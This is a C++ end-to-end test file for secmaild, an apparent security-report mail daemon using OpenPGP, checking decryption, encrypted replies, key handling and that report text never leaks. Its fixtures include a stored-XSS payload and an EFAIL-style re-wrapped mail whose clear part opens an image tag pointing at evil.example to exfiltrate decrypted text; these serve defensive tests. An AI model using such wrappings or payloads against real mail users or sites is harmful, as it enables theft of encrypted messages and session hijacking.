@@ -1,0 +1,331 @@
+// secmaild with OpenPGP, end to end: keys made with `secmailctl key init` and
+// the gpg command line, reports written by real mutt (PGP/MIME) or gpg
+// (inline), delivered through the test Postfix to Dovecot, `secmaild --once`
+// as a process, and the answers read back over IMAP and decrypted or
+// verified as the researcher would, with the gpg command line.
+#include <doctest/doctest.h>
+
+#include <fstream>
+#include <sstream>
+
+#include "pgp_mail.hpp"
+#include "secmaild_fixture.hpp"
+
+using namespace secmaild;
+using namespace secmaild::testing;
+using namespace secmaild::testing::e2e;
+
+namespace {
+
+const std::string kReport =
+    "Description: Stored XSS in the chat title, marker Walrus9Payload.\n\nSteps to reproduce:\n"
+    "1. Name a chat <script>alert(1)</script>\n2. Share it with another user\n\n"
+    "Impact: an attacker runs script in another user's session.\n\nAffected version: 0.2.3\n";
+const std::string kSecretWords[] = {"Walrus9Payload", "chat title", "alert(1)", "another user's session"};
+
+std::string fileText(const std::filesystem::path& p) {
+    std::ifstream in(p, std::ios::binary);
+    std::ostringstream s;
+    s << in.rdbuf();
+    return s.str();
+}
+
+// A fixture with OpenPGP on: secmaild's key from `secmailctl key init`, a
+// researcher and a maintainer identity with their own homes, each side
+// holding the other's public key, and the maintainer's key as the
+// maintainers' keys file.
+class PgpFixture {
+public:
+    PgpFixture() : f_(config()) {
+        auto made = f_.secmailctl("key init");
+        REQUIRE_MESSAGE(made.ok(), made.err);
+        auto ours = f_.secmailctl("key export");
+        REQUIRE_MESSAGE(ours.ok(), ours.err);
+        ourKey_ = ours.out;
+        researcher_ = identity("r", "Jane Researcher", kResearcher);
+        lead_ = identity("l", "Lea Lead", kLead);
+        REQUIRE(importPublicKey(researcher_, ourKey_));
+        REQUIRE(importPublicKey(lead_, ourKey_));
+        auto leadKey = exportPublicKey(lead_);
+        REQUIRE(leadKey);
+        std::ofstream(f_.dir() / "maintainers.asc") << *leadKey;
+        auto check = f_.secmaild({"--check-config"});
+        REQUIRE_MESSAGE(check.ok(), (check.err + check.out));
+        auto listed = f_.ctlJson("maintainers");
+        REQUIRE(listed["keys"].size() == 1);
+        CHECK(listed["keys"][0]["fingerprint"] == lead_.fingerprint);
+        ourFingerprint_ = fingerprintOf(ourKey_);
+        REQUIRE(ourFingerprint_.size() == 40);
+    }
+    ~PgpFixture() {
+        stopAgent(researcher_);
+        stopAgent(lead_);
+        GpgIdentity ours{f_.dir() / "g", "", "", ""};
+        stopAgent(ours);
+    }
+
+    static std::string config() {
+        return "[gpg]\nhome = \"g\"\nkey_url = \"https://example.org/.well-known/security.asc\"\n"
+               "[maintainers]\nkeys = \"maintainers.asc\"\n[notify]\nmaintainers = [\"" +
+               kLead + "\"]\n";
+    }
+
+    GpgIdentity identity(const std::string& dir, const std::string& name, const std::string& email) {
+        auto id = makeGpgIdentity(f_.dir() / dir, name, email);
+        REQUIRE_MESSAGE(id, (id ? "" : id.error().message));
+        return *id;
+    }
+
+    // The fingerprint of the one key in armored key data (via gpg --show-keys).
+    std::string fingerprintOf(const std::string& armored) {
+        std::ofstream(f_.dir() / "k.asc") << armored;
+        auto r = runCommand({"gpg", "--batch", "--with-colons", "--show-keys", (f_.dir() / "k.asc").string()}, {});
+        for (auto line : splitLines(r.out))
+            if (line.substr(0, 4) == "fpr:") return std::string(split(line, ':').at(9));
+        return "";
+    }
+
+    std::string mutt(const MuttMail& mail, const GpgIdentity& from) {
+        auto raw = muttCompose(from, mail);
+        REQUIRE_MESSAGE(raw, (raw ? "" : raw.error().message));
+        return toCrlf(*raw);
+    }
+
+    // The one mail in `user`'s inbox of this kind (by subject prefix).
+    std::vector<std::string> rawInbox(const std::string& user, std::size_t n) {
+        CHECK_MESSAGE(f_.env().waitForMessages(user, n, 30s), f_.env().logs());
+        auto all = f_.env().fetchAll(user);
+        REQUIRE(all);
+        return *all;
+    }
+
+    // Decrypts a multipart/encrypted mail as `who`.
+    GpgResult decryptMail(const GpgIdentity& who, const std::string& raw) {
+        auto parsed = mime::parseMessage(raw);
+        REQUIRE(parsed.parts.size() >= 3);
+        CHECK(parsed.parts[0].contentType == "multipart/encrypted");
+        auto result = gpgDecrypt(who, parsed.parts[2].decoded);
+        REQUIRE_MESSAGE(result, (result ? "" : result.error().message));
+        return *result;
+    }
+
+    // Verifies a multipart/signed mail as `who`; returns the signed part's text.
+    GpgResult verifyMail(const GpgIdentity& who, const std::string& raw) {
+        auto parsed = mime::parseMessage(raw);
+        REQUIRE(parsed.parts.size() >= 3);
+        CHECK(parsed.parts[0].contentType == "multipart/signed");
+        const auto& first = parsed.parts[1];
+        auto result = gpgVerifyDetached(who, raw.substr(first.rawBegin, first.rawEnd - first.rawBegin),
+                                        parsed.parts[2].decoded);
+        REQUIRE_MESSAGE(result, (result ? "" : result.error().message));
+        result->plaintext = mime::parseMessage(raw.substr(first.rawBegin, first.rawEnd - first.rawBegin)).text;
+        return *result;
+    }
+
+    Fixture f_;
+    std::string ourKey_;
+    std::string ourFingerprint_;
+    GpgIdentity researcher_;
+    GpgIdentity lead_;
+};
+
+}  // namespace
+
+TEST_CASE("a PGP/MIME report from mutt is decrypted and filed; the answer is encrypted to the key it carried") {
+    PgpFixture p;
+    MuttMail mail;
+    mail.to = kSecurity;
+    mail.subject = "Security issue";
+    mail.body = kReport;
+    mail.crypto = MuttCrypto::SignEncrypt;
+    mail.attachPublicKey = true;
+    p.f_.deliver(p.mutt(mail, p.researcher_));
+    REQUIRE(p.f_.once().ok());
+
+    auto shown = p.f_.ctlJson("show SEC-2026-0001");
+    CHECK(shown["fields_missing"].empty());
+    CHECK(shown["reporter_key"] == p.researcher_.fingerprint);
+    auto pgp = shown["messages"][0]["openpgp"];
+    CHECK(pgp["encrypted"] == true);
+    CHECK(pgp["decrypted"] == true);
+    REQUIRE(pgp["signatures"].size() == 1);
+    CHECK(pgp["signatures"][0]["status"] == "valid");
+    CHECK(pgp["signatures"][0]["signer"] == "reporter");
+    CHECK(pgp["signatures"][0]["fingerprint"] == p.researcher_.fingerprint);
+    bool described = false;
+    for (const auto& field : shown["fields"])
+        if (field["name"] == "description")
+            described = field["value"].get<std::string>().find("Walrus9Payload") != std::string::npos;
+    CHECK(described);
+
+    auto answers = p.rawInbox(kResearcher, 1);
+    REQUIRE(answers.size() == 1);
+    auto outer = mime::parseMessage(answers[0]);
+    CHECK(outer.subject == "[SEC-2026-0001] Re: Security issue");
+    CHECK(outer.header("Auto-Submitted") == "auto-replied");
+    auto inner = p.decryptMail(p.researcher_, answers[0]);
+    CHECK(inner.decrypted);
+    CHECK(inner.goodSignature);
+    CHECK(inner.signerFingerprint == p.ourFingerprint_);
+    CHECK(inner.plaintext.find("SEC-2026-0001") != std::string::npos);
+    for (const auto& word : kSecretWords) CHECK(inner.plaintext.find(word) == std::string::npos);
+
+    // The maintainer's notice carries the fields, encrypted to the maintainer's key.
+    auto notices = p.rawInbox(kLead, 1);
+    REQUIRE(notices.size() == 1);
+    CHECK(mime::parseMessage(notices[0]).subject == "[SEC-2026-0001] New security report");
+    for (const auto& word : kSecretWords) CHECK(notices[0].find(word) == std::string::npos);
+    auto notice = p.decryptMail(p.lead_, notices[0]);
+    CHECK(notice.goodSignature);
+    CHECK(notice.plaintext.find("Walrus9Payload") != std::string::npos);
+
+    // Nothing of the report is readable in the store's files.
+    p.f_.secmailctl("list");  // a reader; the daemon has exited
+    std::string onDisk = fileText(p.f_.dir() / "store.db") + fileText(p.f_.dir() / "store.db-wal");
+    CHECK(onDisk.size() > 10000);
+    for (const auto& word : kSecretWords) CHECK(onDisk.find(word) == std::string::npos);
+    // A maintainer reads the archive with their own key, without secmaild's.
+    auto archived = p.f_.secmailctl("--gnupg-home " + p.lead_.home.string() + " show SEC-2026-0001");
+    CHECK(archived.ok());
+    CHECK(archived.out.find("Walrus9Payload") != std::string::npos);
+}
+
+TEST_CASE("a report we cannot decrypt is filed and flagged, and answered signed in clear with our fingerprint") {
+    PgpFixture p;
+    auto stranger = p.identity("s", "Someone Else", "other@elsewhere.example");
+    auto strangerKey = exportPublicKey(stranger);
+    REQUIRE(strangerKey);
+    REQUIRE(importPublicKey(p.researcher_, *strangerKey));
+    MuttMail mail;
+    mail.to = kSecurity;
+    mail.subject = "Encrypted to the wrong key";
+    mail.body = kReport;
+    mail.crypto = MuttCrypto::SignEncrypt;
+    // mutt encrypts to the key of the address in To; here To is ours but the
+    // only key it finds for it is the stranger's, so the test builds the mail
+    // with gpg instead: inline, encrypted to the stranger.
+    auto armored = gpgArmor(p.researcher_, stranger.fingerprint, kReport, InlineKind::EncryptSign);
+    REQUIRE(armored);
+    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Encrypted to the wrong key", *armored));
+    REQUIRE(p.f_.once().ok());
+    stopAgent(stranger);
+
+    auto shown = p.f_.ctlJson("show SEC-2026-0001");
+    auto message = shown["messages"][0];
+    CHECK(message["outcome"] == "new-report");
+    CHECK(std::find(message["flags"].begin(), message["flags"].end(), "not-decrypted") != message["flags"].end());
+    CHECK(message["openpgp"]["layers"][0]["decryption"] == "no-secret-key");
+    auto answers = p.rawInbox(kResearcher, 1);
+    REQUIRE(answers.size() == 1);
+    auto signedAck = p.verifyMail(p.researcher_, answers[0]);
+    CHECK(signedAck.goodSignature);
+    CHECK(signedAck.signerFingerprint == p.ourFingerprint_);
+    CHECK(signedAck.plaintext.find("could not decrypt") != std::string::npos);
+    CHECK(signedAck.plaintext.find(p.ourFingerprint_) != std::string::npos);
+    CHECK(signedAck.plaintext.find("https://example.org/.well-known/security.asc") != std::string::npos);
+}
+
+TEST_CASE("EFAIL-style wrapping: clear parts around an encrypted part stay apart and nothing is echoed") {
+    PgpFixture p;
+    MuttMail mail;
+    mail.to = kSecurity;
+    mail.subject = "Report";
+    mail.body = kReport;
+    auto encrypted = mime::parseMessage(p.mutt(mail, p.researcher_));
+    REQUIRE(encrypted.parts.size() == 3);
+    // The attacker re-wraps the encrypted part between clear parts of their own.
+    std::string mpEncrypted = p.mutt(mail, p.researcher_);
+    auto bodyStart = mpEncrypted.find("\r\n\r\n");
+    std::string encryptedHeaders = mpEncrypted.substr(0, bodyStart);
+    auto ct = encryptedHeaders.find("Content-Type:");
+    auto ctEnd = encryptedHeaders.find("\r\n", ct);
+    while (ctEnd + 2 < encryptedHeaders.size() && (encryptedHeaders[ctEnd + 2] == ' ' || encryptedHeaders[ctEnd + 2] == '\t'))
+        ctEnd = encryptedHeaders.find("\r\n", ctEnd + 2);
+    std::string wrapped =
+        "From: Jane Researcher <" + kResearcher + ">\r\nTo: " + kSecurity +
+        "\r\nSubject: Report\r\nMessage-ID: <efail@researcher.example>\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\n"
+        "Attacker prefix Heron3Exfil <img src=\"http://evil.example/?\r\n--outer\r\n" +
+        encryptedHeaders.substr(ct, ctEnd - ct) + "\r\n\r\n" + mpEncrypted.substr(bodyStart + 4) +
+        "\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">Attacker suffix Heron3Exfil</html>\r\n--outer--\r\n";
+    p.f_.deliver(wrapped);
+    REQUIRE(p.f_.once().ok());
+
+    auto shown = p.f_.ctlJson("show SEC-2026-0001");
+    auto message = shown["messages"][0];
+    CHECK(std::find(message["flags"].begin(), message["flags"].end(), "unauthenticated-text") !=
+          message["flags"].end());
+    CHECK(message["openpgp"]["decrypted"] == true);
+    for (const auto& field : shown["fields"]) CHECK(field["value"].get<std::string>().find("Heron3Exfil") == std::string::npos);
+    REQUIRE(shown["unauthenticated_text"].size() == 1);
+    CHECK(shown["unauthenticated_text"][0]["text"].get<std::string>().find("Heron3Exfil") != std::string::npos);
+    // No key of Jane's came with this mail: the answer is signed, in clear.
+    auto answers = p.rawInbox(kResearcher, 1);
+    REQUIRE(answers.size() == 1);
+    auto signedAck = p.verifyMail(p.researcher_, answers[0]);
+    CHECK(signedAck.goodSignature);
+    for (const auto& word : kSecretWords) CHECK(answers[0].find(word) == std::string::npos);
+    CHECK(answers[0].find("Heron3Exfil") == std::string::npos);
+}
+
+TEST_CASE("a forwarded encrypted report from a new sender becomes a new report whose answer holds no plaintext") {
+    PgpFixture p;
+    MuttMail mail;
+    mail.to = kSecurity;
+    mail.subject = "Original report";
+    mail.body = kReport;
+    std::string original = p.mutt(mail, p.researcher_);
+    // Max re-sends Jane's encrypted mail as his own (the decryption-oracle attempt).
+    auto headerEnd = original.find("\r\n\r\n");
+    std::string forwarded = original;
+    auto from = forwarded.find("From: ");
+    auto fromEnd = forwarded.find("\r\n", from);
+    forwarded.replace(from, fromEnd - from, "From: Max <" + kOther + ">");
+    auto mid = forwarded.find("Message-ID: ");
+    if (mid != std::string::npos && mid < headerEnd)
+        forwarded.replace(mid, forwarded.find("\r\n", mid) - mid, "Message-ID: <fwd@researcher.example>");
+    p.f_.deliver(forwarded, kOther);
+    REQUIRE(p.f_.once().ok());
+
+    auto listed = p.f_.ctlJson("list");
+    REQUIRE(listed["reports"].size() == 1);
+    CHECK(listed["reports"][0]["reporter"] == kOther);
+    auto answers = p.rawInbox(kOther, 1);
+    REQUIRE(answers.size() == 1);
+    // Max has no key with us: the answer is signed clear text, and holds nothing of the report.
+    for (const auto& word : kSecretWords) CHECK(answers[0].find(word) == std::string::npos);
+    auto text = mime::parseMessage(answers[0]).text;
+    CHECK(text.find("SEC-2026-0001") != std::string::npos);
+    for (const auto& word : kSecretWords) CHECK(text.find(word) == std::string::npos);
+}
+
+TEST_CASE("inline PGP from the gpg command line is decrypted, and a second, different key for the address is refused") {
+    PgpFixture p;
+    auto armored = gpgArmor(p.researcher_, p.ourFingerprint_, kReport, InlineKind::EncryptSign);
+    REQUIRE(armored);
+    auto key = exportPublicKey(p.researcher_);
+    REQUIRE(key);
+    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Inline report",
+                              "Hello,\n\n" + *armored + "\nMy key:\n\n" + *key));
+    REQUIRE(p.f_.once().ok());
+    auto shown = p.f_.ctlJson("show SEC-2026-0001");
+    CHECK(shown["fields_missing"].empty());
+    CHECK(shown["reporter_key"] == p.researcher_.fingerprint);
+
+    // Someone else sends a key for Jane's address: it is not taken.
+    auto impostor = p.identity("i", "Jane Researcher", kResearcher);
+    auto impostorKey = exportPublicKey(impostor);
+    REQUIRE(impostorKey);
+    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Second report",
+                              kReport + "\nMy new key:\n\n" + *impostorKey));
+    REQUIRE(p.f_.once().ok());
+    stopAgent(impostor);
+    auto second = p.f_.ctlJson("show SEC-2026-0002");
+    CHECK(second["reporter_key"] == p.researcher_.fingerprint);
+    auto flags = second["messages"][0]["flags"];
+    CHECK(std::find(flags.begin(), flags.end(), "key-conflict") != flags.end());
+    // Both answers are encrypted to the first key.
+    auto answers = p.rawInbox(kResearcher, 2);
+    REQUIRE(answers.size() == 2);
+    for (const auto& a : answers) CHECK(p.decryptMail(p.researcher_, a).decrypted);
+}
